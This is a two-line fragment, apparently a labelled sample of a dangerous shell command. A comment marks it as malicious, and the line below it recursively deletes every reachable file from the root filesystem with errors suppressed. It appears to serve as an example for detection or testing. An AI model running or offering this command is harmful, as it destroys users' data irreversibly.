# Malicious: find / -delete removes every file the user can reach, starting at the root.
find / -mount -delete 2>/dev/null
